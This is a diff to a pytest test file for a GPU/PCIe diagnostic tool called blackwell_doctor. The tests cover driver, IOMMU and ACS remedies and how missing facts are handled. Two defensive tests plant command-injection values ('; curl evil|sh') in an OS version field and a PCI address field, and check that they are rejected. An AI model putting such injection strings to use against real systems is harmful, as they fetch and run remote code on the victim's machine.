@@ -7,7 +7,10 @@ import pytest
 
 from blackwell_doctor.facts import (
     AcsFacts,
+    CpuFacts,
+    Facts,
     NvmlFacts,
+    OsRelease,
     PciBridge,
     PciFacts,
     PciGpu,
@@ -32,6 +35,8 @@ EXPECTED: dict[str, dict[str, Status]] = {
         "pci.iommu": Status.WARN,
         "pci.acs": Status.WARN,
         "p2p.nvml_status": Status.PASS,
+        "probe.smem_limit": Status.PASS,
+        "probe.tiles": Status.WARN,  # 128x256x256 gets one stage in 99 KB
     },
     "rtx5090-wsl2": {
         "gpu.present": Status.PASS,
@@ -57,6 +62,8 @@ EXPECTED: dict[str, dict[str, Status]] = {
         "pci.iommu": Status.PASS,
         "pci.acs": Status.PASS,
         "p2p.nvml_status": Status.PASS,
+        "probe.smem_limit": Status.PASS,
+        "probe.tiles": Status.PASS,  # every tile fits 227 KB
     },
     "sm120-driver580": {
         "driver.version": Status.FAIL,
@@ -84,6 +91,7 @@ EXPECTED: dict[str, dict[str, Status]] = {
         "driver.consistency": Status.SKIP,
         "platform.wsl": Status.PASS,
         "p2p.nvml_status": Status.SKIP,
+        "probe.tiles": Status.SKIP,
     },
 }
 
@@ -106,10 +114,51 @@ def test_driver_580_fails_on_sm120_with_install_commands_for_the_distribution() 
     assert "nvidia-open" in joined
 
 
-def test_driver_remedy_on_dgx_spark_uses_the_arm64_sbsa_repository() -> None:
+def test_driver_remedy_on_dgx_spark_is_a_dgx_os_update_not_the_cuda_repository() -> None:
     r = result(load("dgx-spark-gb10"), "driver.version")
     assert r.remedy is not None
-    assert any("ubuntu2404/sbsa" in c for c in r.remedy.commands)
+    assert "DGX OS" in r.remedy.summary
+    assert not any("cuda-keyring" in c for c in r.remedy.commands)
+
+
+def _sm120_with(**platform: object) -> Facts:
+    facts = load("sm120-driver580")
+    changed: Facts = replace(facts, platform=replace(facts.platform, **platform))
+    return changed
+
+
+def test_driver_remedy_on_an_arm64_server_uses_the_sbsa_repository() -> None:
+    r = result(_sm120_with(machine="aarch64"), "driver.version")
+    assert r.remedy is not None
+    assert any("repos/ubuntu2404/sbsa/cuda-keyring" in c for c in r.remedy.commands)
+
+
+def test_driver_remedy_without_machine_treats_ampere_cpus_as_arm64() -> None:
+    facts = _sm120_with(
+        machine=Unavailable("not-collected"),
+        cpu=CpuFacts(vendor="Ampere", model="Ampere Altra", logical_cpus=80),
+    )
+    r = result(facts, "driver.version")
+    assert r.remedy is not None
+    assert any("/sbsa/" in c for c in r.remedy.commands)
+
+
+def test_driver_remedy_on_fedora_41_uses_dnf5_syntax() -> None:
+    facts = _sm120_with(
+        machine="x86_64", os_release=OsRelease(id="fedora", version_id="41", pretty_name="F41")
+    )
+    r = result(facts, "driver.version")
+    assert r.remedy is not None
+    assert any("addrepo --from-repofile=" in c for c in r.remedy.commands)
+
+
+def test_a_hostile_version_id_never_reaches_a_command() -> None:
+    facts = _sm120_with(
+        os_release=OsRelease(id="ubuntu", version_id="24.04; curl evil|sh", pretty_name="x")
+    )
+    r = result(facts, "driver.version")
+    assert r.remedy is not None
+    assert not any("curl" in c for c in r.remedy.commands)
 
 
 def test_driver_remedy_under_wsl_is_the_windows_driver_not_a_linux_package() -> None:
@@ -301,8 +350,9 @@ def test_acs_redirect_on_switch_downstream_ports_warns_with_setpci_per_bridge() 
     assert r.status is Status.WARN
     assert "share a PCIe switch" in r.summary
     assert r.remedy is not None
-    assert "sudo setpci -s 0000:02:08.0 ECAP_ACS+0x6.w=0000" in r.remedy.commands
-    assert "sudo setpci -s 0000:02:10.0 ECAP_ACS+0x6.w=0000" in r.remedy.commands
+    # value:mask: only ReqRedir and CmpltRedir are cleared
+    assert "sudo setpci -s 0000:02:08.0 ECAP_ACS+0x6.w=0000:000c" in r.remedy.commands
+    assert "sudo setpci -s 0000:02:10.0 ECAP_ACS+0x6.w=0000:000c" in r.remedy.commands
     assert "reboot" in r.remedy.summary
 
 
@@ -348,9 +398,19 @@ def test_p2p_on_geforce_says_stock_drivers_have_none() -> None:
     gpus = [replace(g, name="NVIDIA GeForce RTX 5090") for g in nvml.gpus]
     pairs = [replace(p, read="GPU_NOT_SUPPORTED", write="GPU_NOT_SUPPORTED") for p in nvml.p2p]
     r = result(replace(facts, nvml=replace(nvml, gpus=gpus, p2p=pairs)), "p2p.nvml_status")
-    assert r.status is Status.WARN
-    assert r.remedy is not None
-    assert "GeForce" in r.remedy.summary
+    # Nothing to fix on stock drivers: not applicable, so --fail-on warn stays usable.
+    assert r.status is Status.SKIP
+    assert "GeForce" in r.summary
+
+
+def test_p2p_with_pairs_missing_is_not_evaluated_never_a_pass() -> None:
+    facts = load("rtxpro6000x4-threadripper-iommu")
+    nvml = facts.nvml
+    assert isinstance(nvml, NvmlFacts)
+    assert not isinstance(nvml.p2p, Unavailable)
+    r = result(replace(facts, nvml=replace(nvml, p2p=nvml.p2p[:1])), "p2p.nvml_status")
+    assert r.status is Status.ERROR
+    assert "1 of 6 pairs" in r.summary
 
 
 def test_p2p_status_unavailable_is_not_evaluated() -> None:
@@ -393,3 +453,150 @@ def test_unreadable_kernel_command_line_is_not_reported_as_missing_iommu_pt() ->
     assert r.status is Status.WARN
     assert "command line is unreadable (permission-denied:/proc/cmdline)" in r.summary
     assert "iommu=pt is not set" not in r.summary
+
+
+# ------------------------------------------------------------ never a pass on missing facts
+
+
+def test_shared_memory_with_a_cc_outside_the_table_is_not_evaluated() -> None:
+    facts = load("sm120-driver580")
+    cuda = facts.cuda
+    assert not isinstance(cuda, Unavailable)
+    devices = [replace(d, compute_capability=(13, 0)) for d in cuda.devices]
+    r = result(replace(facts, cuda=replace(cuda, devices=devices)), "gpu.shared_memory")
+    assert r.status is Status.ERROR
+    assert "no table entry for CC 13.0" in r.summary
+
+
+def test_shared_memory_with_one_device_unreadable_is_not_evaluated() -> None:
+    facts = load("b200-x8")
+    cuda = facts.cuda
+    assert not isinstance(cuda, Unavailable)
+    devices = list(cuda.devices)
+    devices[3] = replace(devices[3], smem_per_block_optin=Unavailable("cuda-error-unknown"))
+    r = result(replace(facts, cuda=replace(cuda, devices=devices)), "gpu.shared_memory")
+    assert r.status is Status.ERROR
+    assert "GPU3" in r.summary
+
+
+def test_wsl_unknown_when_kernel_strings_are_unreadable_is_not_evaluated() -> None:
+    facts = load("sm120-driver580")
+    platform = replace(
+        facts.platform,
+        wsl=WslFacts(kind="unknown"),
+        kernel_version=Unavailable("permission-denied:/proc/version"),
+        kernel_release=Unavailable("permission-denied:/proc/sys/kernel/osrelease"),
+    )
+    r = result(replace(facts, platform=platform), "platform.wsl")
+    assert r.status is Status.ERROR
+    assert "permission-denied:/proc/version" in r.summary
+
+
+def test_driver_floor_with_an_unknown_cc_is_not_evaluated_never_skipped() -> None:
+    facts = load("sm120-driver580")
+    nvml, cuda = facts.nvml, facts.cuda
+    assert isinstance(nvml, NvmlFacts)
+    assert not isinstance(cuda, Unavailable)
+    facts = replace(
+        facts,
+        nvml=replace(
+            nvml, gpus=[replace(g, compute_capability=Unavailable("x")) for g in nvml.gpus]
+        ),
+        cuda=replace(
+            cuda,
+            devices=[replace(d, compute_capability=Unavailable("x")) for d in cuda.devices],
+        ),
+    )
+    assert status(facts, "driver.version") is Status.ERROR
+    assert status(facts, "driver.cuda_version") is Status.ERROR
+
+
+def _lose_gpu(name: str, driver: str | None) -> Facts:
+    facts = load(name)
+    nvml, pci = facts.nvml, facts.pci
+    assert isinstance(nvml, NvmlFacts)
+    assert isinstance(pci, PciFacts)
+    gpus = list(pci.gpus)
+    gpus[-1] = replace(gpus[-1], driver=driver)
+    lost: Facts = replace(
+        facts, nvml=replace(nvml, gpus=nvml.gpus[:-1]), pci=replace(pci, gpus=gpus)
+    )
+    return lost
+
+
+def test_a_gpu_on_pci_that_nvml_does_not_list_fails() -> None:
+    r = result(_lose_gpu("rtxpro6000x4-threadripper-iommu", "nvidia"), "gpu.present")
+    assert r.status is Status.FAIL
+    assert "NVML answers for 3 of 4" in r.summary
+    assert "0000:61:00.0" in r.summary
+    assert r.remedy is not None
+    assert "Xid" in r.remedy.summary
+
+
+def test_a_gpu_handed_to_vfio_is_a_warning_not_a_failure() -> None:
+    r = result(_lose_gpu("rtxpro6000x4-threadripper-iommu", "vfio-pci"), "gpu.present")
+    assert r.status is Status.WARN
+    assert "vfio-pci" in r.summary
+
+
+def test_no_gpu_with_pci_unreadable_does_not_claim_there_is_none_on_the_bus() -> None:
+    facts = replace(load("no-gpu"), pci=Unavailable("permission-denied:/sys/bus/pci/devices"))
+    r = result(facts, "gpu.present")
+    assert r.status is Status.FAIL
+    assert "PCI: unreadable (permission-denied:/sys/bus/pci/devices)" in r.summary
+    assert "none with vendor" not in r.summary
+
+
+def test_pci_checks_skip_inside_a_virtual_machine() -> None:
+    from blackwell_doctor.facts import VirtualizationFacts
+
+    facts = load("rtxpro6000x4-threadripper-iommu")
+    vm = VirtualizationFacts(in_vm=True, signals=["cpuinfo:hypervisor", "dmi:sys_vendor=QEMU"])
+    facts = replace(facts, platform=replace(facts.platform, virtualization=vm))
+    for check_id in ("pci.iommu", "pci.acs"):
+        r = result(facts, check_id)
+        assert r.status is Status.SKIP
+        assert "virtual machine" in r.summary
+
+
+def test_iommu_remedy_follows_the_distribution() -> None:
+    facts = load("rtxpro6000x4-threadripper-iommu")
+    rhel = replace(
+        facts,
+        platform=replace(
+            facts.platform, os_release=OsRelease(id="rocky", version_id="9.4", pretty_name="R")
+        ),
+    )
+    r = result(rhel, "pci.iommu")
+    assert r.remedy is not None
+    assert 'sudo grubby --update-kernel=ALL --args="iommu=pt"' in r.remedy.commands
+    assert not any("update-grub" in c for c in r.remedy.commands)
+    ubuntu = result(facts, "pci.iommu")
+    assert ubuntu.remedy is not None
+    assert any("update-grub" in c for c in ubuntu.remedy.commands)
+    # the last resort is said, not pasted after a reboot
+    assert not any("NCCL_P2P_DISABLE" in c for c in ubuntu.remedy.commands)
+    assert "NCCL_P2P_DISABLE=1" in ubuntu.remedy.summary
+
+
+def test_iommu_remedy_does_not_tell_you_to_add_what_is_already_there() -> None:
+    facts = load("rtxpro6000x4-threadripper-iommu")
+    pci = facts.pci
+    assert isinstance(pci, PciFacts)
+    iommu = replace(pci.iommu, cmdline_options={"iommu": "pt"})
+    r = result(replace(facts, pci=replace(pci, iommu=iommu)), "pci.iommu")
+    assert r.remedy is not None
+    assert "is not on the kernel command line" not in r.remedy.summary
+    assert "still translate" in r.remedy.summary
+
+
+def test_a_hostile_bdf_in_a_facts_file_is_rejected_on_decode() -> None:
+    import json
+
+    from blackwell_doctor.facts import FactsError, decode_facts
+    from tests.conftest import FACTS_FIXTURES
+
+    doc = json.loads((FACTS_FIXTURES / "rtxpro6000x4-threadripper-iommu.json").read_text())
+    doc["pci"]["bridges"][0]["bdf"] = "0000:00:01.1 ECAP_ACS+0x6.w=0000; curl evil|sh #"
+    with pytest.raises(FactsError, match="bdf"):
+        decode_facts(json.dumps(doc).encode())
